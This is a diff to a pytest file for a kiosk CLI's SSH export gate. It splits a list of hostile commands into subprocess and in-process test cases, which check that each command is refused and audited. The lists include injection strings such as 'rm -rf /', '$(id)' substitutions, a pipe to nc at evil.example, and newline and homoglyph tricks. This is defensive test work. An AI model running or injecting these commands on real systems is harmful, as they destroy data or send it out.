@@ -10,6 +10,7 @@ from pathlib import Path
 
 import pytest
 
+from kiosk.cli.main import main
 from kiosk.services.context import KioskContext
 from kiosk.services.ssh_gate import Refused, check_ssh_command
 from tests.admin.seeding import phone, visit
@@ -72,28 +73,33 @@ def test_a_mistake_in_an_allowed_command_is_the_usual_one_line(seeded: KioskCont
     assert result.stderr.strip() == "kiosk: --since 2026-13-45 is not a date (use YYYY-MM-DD)"
 
 
+# The list, each run as sshd would run it: a real process.
 HOSTILE = [
     "staff add x",
+    "export visits; rm -rf /",
+    "$(id)",
+    "--data-dir /etc",
+    "export visits --output /tmp/x",
+    "export visits\nstaff add x",
+    "x" * 10_000,
+]
+# More of the same, run in-process through the same entry point (main), to keep the suite fast.
+MORE_HOSTILE = [
     "staff list",
     "close-day",
     "purge",
     "run",
-    "export visits; rm -rf /",
     "export visits && reboot",
     "export visits | nc evil.example 80",
     "export visits > /tmp/x",
-    "$(id)",
     "export `id`",
     "export visits --since $(id)",
-    "--data-dir /etc",
     "export visits --data-dir /etc",
     "export visits --data-dir=/etc",
     "export visits --config /tmp/evil.toml",
     "audit verify --config=x",
-    "export visits --output /tmp/x",
     "export visits --out /tmp/x",
     "export visits --force",
-    "export visits\nstaff add x",
     "export visits\r\nstaff add x",
     "export 'visits'",
     "export visits --since '2026-01-01'",
@@ -109,36 +115,51 @@ HOSTILE = [
     "export visits --since 2026-01-01T00:00",
     "export visits -o x",
     "export visits \\",
-    "export visits\x00",
     "export visits\tstaff",
-    "ёxport visits",
-    "x" * 10_000,
+    "\u0435xport visits",
     "export visits " + "--since 2026-01-01 " * 40,
 ]
 
 
-@pytest.mark.parametrize("command", HOSTILE, ids=[repr(c[:30]) for c in HOSTILE])
-def test_hostile_commands_are_refused_and_audited(context: KioskContext, tmp_path, command):
-    if "\x00" in command:
-        pytest.skip("an environment variable cannot hold NUL; sshd cannot pass one either")
-    before = len(context.store.audit_entries())
-    x_existed = Path("/tmp/x").exists()
-
-    result = ssh(context, command)
-
-    assert result.returncode == 2
-    assert result.stdout == ""
-    lines = result.stderr.splitlines()
+def assert_refused_and_audited(context, before, returncode, stdout, stderr) -> None:
+    assert returncode == 2
+    assert stdout == ""
+    lines = stderr.splitlines()
     assert lines[0].startswith("kiosk ssh-export: refused: ")
     assert len(lines) <= 2  # the refusal, and for some a usage line
-    assert "Traceback" not in result.stderr
+    assert "Traceback" not in stderr
     logged = context.store.audit_entries()[before:]
     assert [e["action"] for e in logged] == ["ssh-refused"]
     detail = logged[0]["detail"]
     assert detail.startswith("from 192.0.2.7: ")
     assert detail.isprintable() and detail.isascii()  # no newline or escape reaches the trail
     assert len(detail) < 450
+
+
+@pytest.mark.parametrize("command", HOSTILE, ids=[repr(c[:30]) for c in HOSTILE])
+def test_hostile_commands_are_refused_and_audited(context: KioskContext, command):
+    before = len(context.store.audit_entries())
+    x_existed = Path("/tmp/x").exists()
+
+    result = ssh(context, command)
+
+    assert_refused_and_audited(context, before, result.returncode, result.stdout, result.stderr)
     assert Path("/tmp/x").exists() == x_existed
+
+
+@pytest.mark.parametrize("command", MORE_HOSTILE, ids=[repr(c[:30]) for c in MORE_HOSTILE])
+def test_more_hostile_commands_are_refused_and_audited(
+    context: KioskContext, monkeypatch, capsys, command
+):
+    monkeypatch.setenv("KIOSK_DATA_DIR", str(context.store.data_dir))
+    monkeypatch.setenv("SSH_CLIENT", CLIENT)
+    monkeypatch.setenv("SSH_ORIGINAL_COMMAND", command)
+    before = len(context.store.audit_entries())
+
+    returncode = main(["ssh-export"])
+
+    out, err = capsys.readouterr()
+    assert_refused_and_audited(context, before, returncode, out, err)
 
 
 def test_an_empty_command_shows_the_usage(context: KioskContext) -> None:
